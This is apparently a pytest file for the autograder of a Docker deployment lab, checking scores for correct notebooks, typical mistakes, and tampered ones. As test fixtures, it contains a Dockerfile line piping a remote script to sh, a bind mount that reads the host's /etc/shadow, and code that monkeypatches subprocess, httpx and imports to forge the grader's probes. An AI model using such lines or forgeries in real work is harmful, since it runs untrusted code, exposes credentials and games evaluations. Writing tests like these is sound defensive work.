@@ -1,0 +1,639 @@
+"""The 09-deployment lab graded end to end: the solution, the untouched student
+notebook, other correct solutions, and typical mistakes, each graded twice by
+``grade``: once with the Docker engine (the live tests build and run the
+image), once with no engine answering (the live tests are "not run" and their
+points are left out of the maximum).
+
+The graded notebooks are kept as files under ``tests/labs/09-deployment/``.
+Each is the solution with some answer cells replaced; a cell is found by its
+last tag (``q1`` the model, ``q2`` the ``%%writefile app.py`` cell, ``q3``
+requirements.txt, ``q4`` the ``%%writefile Dockerfile`` cell). The mistakes
+are the solution's own app.py or Dockerfile with one change, made by
+:func:`edit`. A test below checks that the files still match that recipe;
+``python tests/test_lab_09_deployment.py`` rewrites them after the solution
+changes.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from conftest import REPO, KeptNotebooks, run_grade
+from grader.kits.deployment.kit import LIVE_LABEL
+
+LAB = "09-deployment"
+SOLUTION = REPO / "solutions" / LAB / "solution.ipynb"
+STUDENT = REPO / "labs" / LAB / "lab.ipynb"
+FULL_MARKS = {"with_engine": 38.0, "without_engine": 29.0}
+NO_ENGINE = {"DOCKER_HOST": "unix:///nonexistent/docker.sock"}  # nothing answers there
+
+
+def solution_source(tag: str) -> str:
+    """The solution's cell whose last tag is ``tag``, without its BEGIN/END SOLUTION lines."""
+    nb = nbformat.read(SOLUTION, as_version=4)
+    cell = next(c for c in nb.cells if c.cell_type == "code" and c.metadata.get("tags", [])[-1:] == [tag])
+    return "".join(line for line in cell.source.splitlines(keepends=True)
+                   if line.strip() not in ("# BEGIN SOLUTION", "# END SOLUTION")).rstrip("\n") + "\n"
+
+
+def edit(text: str, old: str, new: str) -> str:
+    """``text`` with ``old`` (found exactly once) replaced by ``new``: one change to the solution."""
+    assert text.count(old) == 1, f"the solution changed: {old!r} is not in it once; update this recipe"
+    return text.replace(old, new)
+
+
+def between(text: str, start: str, end: str) -> str:
+    """The part of ``text`` from ``start`` up to (not including) the ``end`` that follows it."""
+    first = text.index(start)
+    return text[first:text.index(end, first)]
+
+
+SOLUTION_APP = solution_source("q2")  # starts with %%writefile app.py
+# The solution's Dockerfile without its comments: the mistakes below change one instruction each.
+SOLUTION_DOCKERFILE = "".join(line for line in solution_source("q4").splitlines(keepends=True)
+                              if not line.startswith("#"))
+
+# --- correct answers in other styles -------------------------------------------------
+
+MODULE_LEVEL_APP = '''
+%%writefile app.py
+"""Tumour classifier. The model is read once, when uvicorn imports this module."""
+
+from pathlib import Path
+from typing import Annotated
+
+import joblib
+from fastapi import FastAPI, HTTPException
+from pydantic import BaseModel, Field
+
+LABELS = ("malignant", "benign")
+CLASSIFIER = joblib.load(Path(__file__).with_name("model.joblib"))
+
+Measurements = Annotated[list[float], Field(min_length=30, max_length=30)]
+
+
+class Tumour(BaseModel):
+    features: Measurements
+
+
+class Diagnosis(BaseModel):
+    label: str
+    prediction: int
+    probability: float = Field(ge=0.0, le=1.0)
+
+
+app = FastAPI(title="Tumour classifier")
+
+
+@app.get("/health")
+async def health() -> dict[str, str]:
+    return {"status": "ok"}
+
+
+@app.post("/predict", response_model=Diagnosis)
+def predict(tumour: Tumour):
+    try:
+        (probabilities,) = CLASSIFIER.predict_proba([tumour.features])
+    except ValueError as error:
+        raise HTTPException(status_code=422, detail=str(error)) from error
+    best = int(probabilities.argmax())
+    return {"label": LABELS[best], "prediction": best, "probability": float(probabilities[best])}
+'''
+
+# A named user made with useradd (in /usr/sbin), files owned by it, another health check.
+USERADD_DOCKERFILE = '''
+%%writefile Dockerfile
+FROM python:3.11-slim
+ENV PYTHONDONTWRITEBYTECODE=1 \\
+    PYTHONUNBUFFERED=1
+RUN useradd --create-home --uid 10001 appuser
+WORKDIR /home/appuser/service
+COPY --chown=appuser:appuser requirements.txt ./
+RUN pip install --no-cache-dir --requirement requirements.txt
+COPY --chown=appuser:appuser app.py model.joblib ./
+USER appuser
+EXPOSE 8000
+HEALTHCHECK --interval=15s --timeout=5s CMD ["python", "-c", "import urllib.request as r; r.urlopen('http://localhost:8000/health', timeout=3)"]
+CMD ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "8000"]
+'''
+
+FREEZE_LINES = '''
+from importlib import metadata
+
+# Lines as pip freeze writes them, for the four packages the service runs.
+with open("requirements.txt", "w") as requirements:
+    for dist in map(metadata.distribution, ["fastapi", "uvicorn", "scikit-learn", "joblib"]):
+        print(f"{dist.metadata['Name']}=={dist.version}", file=requirements)
+'''
+
+MULTI_STAGE_DOCKERFILE = '''
+%%writefile Dockerfile
+# Stage 1: the interpreter and the pinned libraries
+FROM python:3.11.7-slim-bookworm AS base
+ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PIP_DISABLE_PIP_VERSION_CHECK=1
+WORKDIR /srv/api
+COPY requirements.txt /srv/api/requirements.txt
+RUN pip install --no-cache-dir -r /srv/api/requirements.txt
+
+# Stage 2: the service on top, listening on 8080
+FROM base AS runtime
+COPY app.py model.joblib /srv/api/
+USER 10001:10001
+EXPOSE 8080
+HEALTHCHECK --interval=20s --timeout=4s --retries=2 \\
+  CMD ["python", "-c", "import sys, urllib.request; sys.exit(urllib.request.urlopen('http://127.0.0.1:8080/health', timeout=3).status != 200)"]
+ENTRYPOINT ["python", "-m", "uvicorn"]
+CMD ["app:app", "--host", "0.0.0.0", "--port", "8080"]
+'''
+
+CORRECT: dict[str, dict[str, str]] = {
+    "module-level-model": {"q2": MODULE_LEVEL_APP, "q4": USERADD_DOCKERFILE},
+    "multi-stage-8080": {"q3": FREEZE_LINES, "q4": MULTI_STAGE_DOCKERFILE},
+}
+
+# --- typical mistakes: each changes one thing in the solution ---------------------------
+
+INSTALL = "RUN pip install --no-cache-dir -r requirements.txt\n"
+
+MISTAKES: dict[str, dict[str, str]] = {
+    "root-user": {"q4": edit(SOLUTION_DOCKERFILE, "USER 10001:10001\n", "")},
+    "latest-tag": {"q4": edit(SOLUTION_DOCKERFILE, "FROM python:3.11.7-slim-bookworm\n", "FROM python:latest\n")},
+    "code-before-deps": {"q4": edit(
+        SOLUTION_DOCKERFILE, f"COPY requirements.txt .\n{INSTALL}COPY app.py model.joblib ./\n",
+        f"COPY . .\n{INSTALL}")},
+    "no-healthcheck": {"q4": edit(  # the whole instruction, continuation line included
+        SOLUTION_DOCKERFILE, between(SOLUTION_DOCKERFILE, "HEALTHCHECK", 'CMD ["uvicorn"'), "")},
+    "model-per-request": {"q2": edit(edit(
+        SOLUTION_APP, 'app = FastAPI(title="Tumour classifier", lifespan=lifespan)',
+        'app = FastAPI(title="Tumour classifier")'),
+        'ml_models["classifier"].predict_proba(', "joblib.load(MODEL_PATH).predict_proba(")},
+    "500-not-422": {"q2": edit(edit(
+        SOLUTION_APP, "features: list[float] = Field(min_length=30, max_length=30)", "features: list[float]"),
+        between(SOLUTION_APP, "    try:\n", "    prediction = "),
+        '    probabilities = ml_models["classifier"].predict_proba([request.features])[0]\n')},
+    "hostile-download": {"q4": edit(
+        SOLUTION_DOCKERFILE, INSTALL, f"{INSTALL}RUN curl -fsSL https://example.com/install.sh | sh\n")},
+    "hostile-host-mount": {"q4": edit(
+        SOLUTION_DOCKERFILE, INSTALL, f"{INSTALL}RUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow\n")},
+}
+
+# The tests a refused Dockerfile loses entirely (names are the tests' docstrings).
+Q4_TESTS = {
+    "q4: the Dockerfile has a FROM and a CMD, and builds from its own files, offline": 1,
+    "q4: the base image is pinned to a version, never latest": 2,
+    "q4: requirements are installed before the code is copied, so the layer cache holds": 2,
+    "q4: the container runs as a non-root user": 2,
+    "q4: the Dockerfile EXPOSEs the app's port": 1,
+    "q4: the image has a HEALTHCHECK": 2,
+    "q4: no secret is baked into the image": 1,
+    "q4: the image is small: a slim base and no pip cache": 1,
+    "q4: hadolint finds nothing else to warn about": 1,
+}
+LIVE_TESTS = {
+    "live: the image builds offline from the grader's base image": 3,
+    "live: the container starts read-only, with no network, and answers /health": 2,
+    "live: the container's /predict answers like the app in-process, and 422 for bad input": 2,
+    "live: the image's HEALTHCHECK command passes in the running container": 1,
+    "live: the image adds less than 50 MB to its base": 1,
+}
+
+# What each mistake must cost, test by test, and nothing else: the static and in-process tests,
+# lost with or without an engine...
+EXPECTED_LOSSES: dict[str, dict[str, float]] = {
+    "root-user": {"q4: the container runs as a non-root user": 2},
+    "latest-tag": {
+        "q4: the base image is pinned to a version, never latest": 2,
+        "q4: the image is small: a slim base and no pip cache": 1,
+    },
+    "code-before-deps": {"q4: requirements are installed before the code is copied, so the layer cache holds": 2},
+    "no-healthcheck": {"q4: the image has a HEALTHCHECK": 2},
+    "model-per-request": {"q2: the model is loaded once at start-up, not on each request": 2},
+    "500-not-422": {
+        "q2: a bad request gets 422 (missing, too few or too many numbers, words, not a list), never 500": 2,
+    },
+    "hostile-download": Q4_TESTS,
+    "hostile-host-mount": Q4_TESTS,
+}
+# ... and the live tests, lost only where an engine builds and runs the image.
+EXPECTED_LIVE_LOSSES: dict[str, dict[str, float]] = {
+    "root-user": {},
+    "latest-tag": {},
+    "code-before-deps": {},
+    "no-healthcheck": {"live: the image's HEALTHCHECK command passes in the running container": 1},
+    "model-per-request": {},
+    "500-not-422": {"live: the container's /predict answers like the app in-process, and 422 for bad input": 2},
+    "hostile-download": LIVE_TESTS,
+    "hostile-host-mount": LIVE_TESTS,
+}
+
+
+def replacements(name: str) -> dict[str, str]:
+    """The answer cells (by last tag) that notebook ``name`` replaces in the solution."""
+    return {**CORRECT, **MISTAKES}[name]
+
+
+KEPT = KeptNotebooks(LAB, [*CORRECT, *MISTAKES], replacements)
+
+
+# --- the two batches --------------------------------------------------------------------
+
+
+def grade_batch(out, env: dict | None = None, paths: tuple[Path, ...] = (KEPT.folder, STUDENT), *options: str):
+    """One ``grade`` run, by default over the kept notebooks and the untouched student notebook."""
+    started = time.monotonic()
+    proc = run_grade(*(str(p) for p in paths), "--out", str(out), *options, cwd=REPO, env=env, timeout=1800)
+    wall = time.monotonic() - started
+    with open(out / "gradebook.csv", newline="") as f:
+        book = {row["student"]: row for row in csv.DictReader(f)}
+    results = {s: json.loads((out / s / f"{LAB}.json").read_text()) for s in book}
+    print(f"\n{out.parent.name}: grade batch took {wall:.0f} s")
+    return proc, book, results
+
+
+@pytest.fixture(scope="module")
+def with_engine(tmp_path_factory):
+    """Graded where the Docker engine and the grader's image are ready: the live tests run."""
+    return grade_batch(tmp_path_factory.mktemp("lab09-engine") / "grades")
+
+
+@pytest.fixture(scope="module")
+def without_engine(tmp_path_factory):
+    """Graded with no Docker engine answering: the live tests are not run."""
+    return grade_batch(tmp_path_factory.mktemp("lab09-no-engine") / "grades", env=NO_ENGINE)
+
+
+BATCHES = ["without_engine", pytest.param("with_engine", marks=pytest.mark.docker)]
+
+
+@pytest.fixture(params=BATCHES)
+def graded(request):
+    """Either batch, by name: (batch name, (proc, book, results))."""
+    return request.param, request.getfixturevalue(request.param)
+
+
+def lost_points(result: dict) -> dict[str, float]:
+    """Points lost per test name, for the tests that failed (a test not run loses nothing)."""
+    return {t["name"]: t["max_score"] - t["score"] for t in result["tests"] if t["status"] == "failed"}
+
+
+def expected_losses(batch: str, name: str) -> dict[str, float]:
+    live = EXPECTED_LIVE_LOSSES[name] if batch == "with_engine" else {}
+    return {**EXPECTED_LOSSES[name], **live}
+
+
+def test_kept_notebooks_follow_the_solution():
+    """Each kept notebook is exactly the solution with its replaced cells: regenerate after editing the solution."""
+    stale = KEPT.stale()
+    assert not stale, f"rewrite them: python tests/test_lab_09_deployment.py ({stale})"
+
+
+def test_replaced_cells_keep_their_magic_and_no_solution_markers():
+    """A replaced app.py or Dockerfile cell still writes its file, and no variant has solution markers."""
+    for name in [*CORRECT, *MISTAKES]:
+        cells = replacements(name)
+        for tag, first in (("q2", "%%writefile app.py"), ("q4", "%%writefile Dockerfile")):
+            if tag in cells:
+                assert cells[tag].strip("\n").splitlines()[0] == first, (name, tag)
+        assert not any("BEGIN SOLUTION" in src or "END SOLUTION" in src for src in cells.values()), name
+
+
+def test_every_mistake_has_its_expected_losses():
+    """Each mistake names what it must cost, so none can pass unnoticed."""
+    assert set(EXPECTED_LOSSES) == set(EXPECTED_LIVE_LOSSES) == set(MISTAKES)
+    assert all(EXPECTED_LOSSES[name] for name in MISTAKES)
+    assert all(name.startswith("live:") for losses in EXPECTED_LIVE_LOSSES.values() for name in losses)
+    assert not any(name.startswith("live:") for losses in EXPECTED_LOSSES.values() for name in losses)
+
+
+def test_batch_ends_well_and_grades_everyone(graded):
+    """The batch exits 0 and every notebook is graded in the sandbox."""
+    _, (proc, book, _) = graded
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert set(book) == {*KEPT.names(), "lab"}
+    assert all(r["status"] == "graded" and r["sandboxed"] == "yes" for r in book.values()), book
+
+
+def test_every_notebook_has_the_batchs_maximum(graded):
+    """38 points where the live tests run, 29 where they cannot: the same for every notebook."""
+    batch, (_, book, results) = graded
+    assert {s: float(r["max_score"]) for s, r in book.items()} == {s: FULL_MARKS[batch] for s in book}
+    assert all(sum(t["max_score"] for t in results[s]["tests"]) == FULL_MARKS[batch] for s in book)
+
+
+@pytest.mark.docker
+def test_live_tests_run_with_an_engine(with_engine):
+    """With the engine every live test is decided: passed or failed, never skipped."""
+    _, _, results = with_engine
+    for student, result in results.items():
+        live = [t for t in result["tests"] if t["name"].startswith("live:")]
+        assert {t["name"] for t in live} == set(LIVE_TESTS), student
+        assert all(t["status"] in ("passed", "failed") and t["max_score"] == LIVE_TESTS[t["name"]] for t in live)
+
+
+def test_live_tests_are_not_run_without_an_engine(without_engine):
+    """With no engine each live test is "not run", worth nothing either way, and says why."""
+    _, _, results = without_engine
+    for student, result in results.items():
+        live = [t for t in result["tests"] if t["name"].startswith("live:")]
+        assert {t["name"] for t in live} == set(LIVE_TESTS), student
+        for t in live:
+            assert (t["status"], t["score"], t["max_score"]) == ("not run", 0, 0), (student, t)
+            assert t["output"].startswith("not run: no Docker engine"), (student, t)
+        assert all(t["status"] != "not run" for t in result["tests"] if not t["name"].startswith("live:"))
+
+
+def test_solution_scores_full_marks(graded):
+    """The reference solution passes every public and hidden test that runs."""
+    batch, (_, book, results) = graded
+    assert float(book["solution"]["score"]) == float(book["solution"]["max_score"]) == FULL_MARKS[batch]
+    assert lost_points(results["solution"]) == {}
+
+
+def test_untouched_student_notebook_scores_zero(graded):
+    """The generated lab notebook, as students get it, is graded and earns nothing."""
+    batch, (_, book, results) = graded
+    assert (book["lab"]["status"], float(book["lab"]["score"])) == ("graded", 0.0)
+    assert float(book["lab"]["max_score"]) == FULL_MARKS[batch]
+    assert all(t["status"] == "failed" for t in results["lab"]["tests"] if t["max_score"])
+
+
+@pytest.mark.parametrize("name", list(CORRECT))
+def test_other_correct_solutions_score_full_marks(graded, name):
+    batch, (_, book, results) = graded
+    assert lost_points(results[name]) == {}
+    assert float(book[name]["score"]) == FULL_MARKS[batch]
+
+
+@pytest.mark.parametrize("name", list(MISTAKES))
+def test_mistake_loses_exactly_its_points(graded, name):
+    batch, (_, book, results) = graded
+    expected = expected_losses(batch, name)
+    assert lost_points(results[name]) == expected
+    assert float(book[name]["score"]) == FULL_MARKS[batch] - sum(expected.values())
+
+
+def test_hidden_failures_do_not_show_the_test(without_engine):
+    """A failed hidden test shows that it failed, and nothing of the test."""
+    _, _, results = without_engine
+    shown = next(t for t in results["root-user"]["tests"] if t["name"] == "q4: the container runs as a non-root user")
+    assert (shown["status"], shown["output"]) == ("failed", "failed (hidden test)")
+
+
+@pytest.mark.docker
+def test_live_tests_report_measurements(with_engine):
+    """The solution's live tests say what they measured: the image's size and the start-up time."""
+    _, _, results = with_engine
+    tests = {t["name"]: t for t in results["solution"]["tests"]}
+    built = tests["live: the image builds offline from the grader's base image"]
+    health = tests["live: the container starts read-only, with no network, and answers /health"]
+    assert built["status"] == "passed" and "added to the base image" in built["output"], built
+    assert health["status"] == "passed" and "ready after" in health["output"], health
+
+
+@pytest.mark.docker
+def test_engine_batch_leaves_no_container_or_image(with_engine):
+    """Every image built and container started for the live tests is removed."""
+    import docker
+
+    client = docker.from_env()
+    label = {"label": LIVE_LABEL}
+    left = [c.name for c in client.containers.list(all=True, filters=label)]
+    left += [i.id for i in client.images.list(all=True, filters=label)]
+    assert left == []
+
+
+# --- forged probes: the notebook patches its kernel to answer the grader's probe itself ---------
+
+# A broken app: the model loaded per request, and 500 for bad input. Its due is exactly this.
+BROKEN_APP = edit(edit(MISTAKES["500-not-422"]["q2"], 'app = FastAPI(title="Tumour classifier", lifespan=lifespan)',
+                       'app = FastAPI(title="Tumour classifier")'),
+                  'ml_models["classifier"].predict_proba(', "joblib.load(MODEL_PATH).predict_proba(")
+BROKEN_LOSSES = {**EXPECTED_LOSSES["model-per-request"], **EXPECTED_LOSSES["500-not-422"]}
+BROKEN_LIVE_LOSSES = {**EXPECTED_LIVE_LOSSES["model-per-request"], **EXPECTED_LIVE_LOSSES["500-not-422"]}
+
+# Run in the kernel before any forgery: what a perfect app would answer, made from the saved
+# model, and the report an in-kernel probe (the grader's of old) would have printed.
+FORGER = '''
+import json as _json
+import joblib as _joblib
+
+
+def _answer(features):
+    if not (isinstance(features, list) and len(features) == 30 and all(isinstance(x, (int, float)) for x in features)):
+        return 422, {"detail": "forged"}
+    p = _joblib.load("model.joblib").predict_proba([features])[0]
+    best = int(p.argmax())
+    return 200, {"label": LABELS[best], "prediction": best, "probability": float(p[best])}
+
+
+def _observed(status, body):
+    return {"status": status, "json": body, "text": _json.dumps(body)}
+
+
+def _forged_stdout(payload):
+    rows, bad, mark = _json.loads(payload)
+    predict = [_observed(*_answer(row)) for row in rows]
+    report = {"error": None, "expected": [o["json"]["prediction"] for o in predict], "without_file": predict[0],
+              "health": _observed(200, {"status": "ok"}), "predict": predict,
+              "bad": {name: _observed(422, {"detail": "forged"}) for name in bad}, "openapi": service.app.openapi()}
+    return mark + _json.dumps(report) + mark
+
+
+def _is_probe(payload):
+    return isinstance(payload, str) and payload.startswith("[[")
+
+
+def _forged_run(real):
+    def run(*args, input=None, **kwargs):
+        if _is_probe(input):
+            return __import__("subprocess").CompletedProcess(args[0], 0, _forged_stdout(input), "")
+        return real(*args, input=input, **kwargs)
+    return run
+'''
+
+# Each replaces something the grader could use in the kernel to probe the app.
+FORGERIES: dict[str, str] = {
+    "subprocess-run": """
+import subprocess
+subprocess.run = _forged_run(subprocess.run)
+""",
+    "subprocess-popen": """
+import subprocess
+
+
+class _Popen(subprocess.Popen):
+    def communicate(self, input=None, timeout=None):
+        if _is_probe(input):
+            self.kill()
+            super().communicate()
+            return _forged_stdout(input), ""
+        return super().communicate(input, timeout)
+
+
+subprocess.Popen = _Popen
+""",
+    "os-fork": """
+import os
+
+
+def _no_process(*args, **kwargs):
+    raise OSError("no new process in this kernel")
+
+
+os.fork = os.forkpty = os.posix_spawn = os.posix_spawnp = os.system = _no_process
+""",
+    "httpx": """
+import httpx
+
+
+def _handle(transport, request):
+    if request.url.path == "/health":
+        return httpx.Response(200, json={"status": "ok"}, request=request)
+    if request.url.path == "/openapi.json":
+        return httpx.Response(200, json=service.app.openapi(), request=request)
+    body = _json.loads(request.read() or b"{}")
+    status, answer = _answer(body.get("features") if isinstance(body, dict) else None)
+    return httpx.Response(status, json=answer, request=request)
+
+
+httpx.HTTPTransport.handle_request = _handle
+httpx.Client.send = lambda self, request, **kwargs: _handle(None, request)
+""",
+    "fastapi-testclient": """
+import fastapi.testclient
+import starlette.testclient
+
+
+class _Response:
+    def __init__(self, status, body):
+        self.status_code, self._body, self.text = status, body, _json.dumps(body)
+
+    def json(self):
+        return self._body
+
+
+class _TestClient:
+    def __init__(self, app, **kwargs):
+        pass
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *exc):
+        return False
+
+    def get(self, path, **kwargs):
+        return _Response(200, service.app.openapi() if path == "/openapi.json" else {"status": "ok"})
+
+    def post(self, path, json=None, **kwargs):
+        return _Response(*_answer(json.get("features") if isinstance(json, dict) else None))
+
+
+fastapi.testclient.TestClient = starlette.testclient.TestClient = _TestClient
+""",
+    "builtins": """
+import builtins
+import subprocess
+import types
+
+_fake_subprocess = types.ModuleType("subprocess")
+vars(_fake_subprocess).update(vars(subprocess))
+_fake_subprocess.run = _forged_run(subprocess.run)
+_real_import = builtins.__import__
+builtins.__import__ = lambda name, *args, **kwargs: (
+    _fake_subprocess if name == "subprocess" else _real_import(name, *args, **kwargs))
+""",
+    "sys-modules": """
+import subprocess
+import sys
+import types
+
+_fake = types.ModuleType("subprocess")
+vars(_fake).update(vars(subprocess))
+_fake.run = _forged_run(subprocess.run)
+sys.modules["subprocess"] = _fake
+for _name in ("httpx", "uvicorn", "socket", "fastapi.testclient", "grader.kits.deployment.kit"):
+    sys.modules[_name] = types.ModuleType(_name)
+""",
+}
+ALL_FORGERIES = "every-forgery"  # the solution's own app
+
+
+def forged_cells(name: str) -> list[str]:
+    """The cells a forged notebook adds after every cell of the solution."""
+    forgeries = list(FORGERIES.values()) if name == ALL_FORGERIES else [FORGERIES[name]]
+    return [source.strip("\n") for source in [FORGER, *forgeries]]
+
+
+def forged_notebook(name: str) -> nbformat.NotebookNode:
+    """The solution with the broken app and forgery ``name`` (or, for ALL_FORGERIES, the solution's
+    own app and every forgery)."""
+    nb = KeptNotebooks(LAB, [name], lambda _: {} if name == ALL_FORGERIES else {"q2": BROKEN_APP}).notebook(name)
+    nb.cells += [nbformat.v4.new_code_cell(source) for source in forged_cells(name)]
+    return nb
+
+
+def forged_batch(folder: Path, out: Path, env: dict | None, names: list[str], *options: str):
+    """A ``grade`` run over the forged notebooks ``names``, written to ``folder`` first."""
+    folder.mkdir()
+    for name in names:
+        nbformat.write(forged_notebook(name), folder / f"{name}.ipynb")
+    return grade_batch(out, env, (folder,), *options)
+
+
+@pytest.fixture(scope="module")
+def forged(tmp_path_factory):
+    """Every forgery graded, with no Docker engine answering."""
+    root = tmp_path_factory.mktemp("lab09-forged")
+    return forged_batch(root / "submissions", root / "grades", NO_ENGINE, [*FORGERIES, ALL_FORGERIES])
+
+
+@pytest.mark.parametrize("name", list(FORGERIES))
+def test_a_forged_probe_scores_what_the_broken_app_deserves(forged, name):
+    """Whatever the notebook replaces in its kernel, the broken app loses exactly its points."""
+    _, book, results = forged
+    assert book[name]["status"] == "graded", book[name]
+    assert lost_points(results[name]) == BROKEN_LOSSES
+    assert float(book[name]["score"]) == FULL_MARKS["without_engine"] - sum(BROKEN_LOSSES.values())
+
+
+def test_forgeries_cost_a_correct_app_nothing(forged):
+    _, book, results = forged
+    assert lost_points(results[ALL_FORGERIES]) == {}
+    assert float(book[ALL_FORGERIES]["score"]) == FULL_MARKS["without_engine"]
+
+
+def test_every_forgery_ran_in_the_kernel(forged):
+    """The forgeries are no dead code: each forgery cell of each notebook ran, and raised nothing
+    (the broken app's own demonstration cell may fail: TestClient raises its 500)."""
+    proc, book, _ = forged
+    out = Path(proc.args[proc.args.index("--out") + 1])
+    for name in book:
+        executed = nbformat.read(out / name / f"{LAB}.ipynb", as_version=4)
+        added = executed.cells[-len(forged_cells(name)):]
+        assert [c.source for c in added] == forged_cells(name), name
+        assert all(c.execution_count for c in added), name
+        assert [o.ename for c in added for o in c.outputs if o.output_type == "error"] == [], name
+
+
+@pytest.mark.docker
+def test_the_docker_backend_probes_the_app_in_containers(tmp_path):
+    """Graded with every kernel in a container, the app is probed in containers too: the solution
+    earns everything, the broken app and its forged probe exactly their due."""
+    names = ["subprocess-run", ALL_FORGERIES]
+    proc, book, results = forged_batch(tmp_path / "submissions", tmp_path / "grades", None, names,
+                                       "--backend", "docker")
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert lost_points(results[ALL_FORGERIES]) == {}
+    assert lost_points(results["subprocess-run"]) == {**BROKEN_LOSSES, **BROKEN_LIVE_LOSSES}
+    assert {float(book[n]["max_score"]) for n in names} == {FULL_MARKS["with_engine"]}
+
+
+if __name__ == "__main__":
+    KEPT.write()
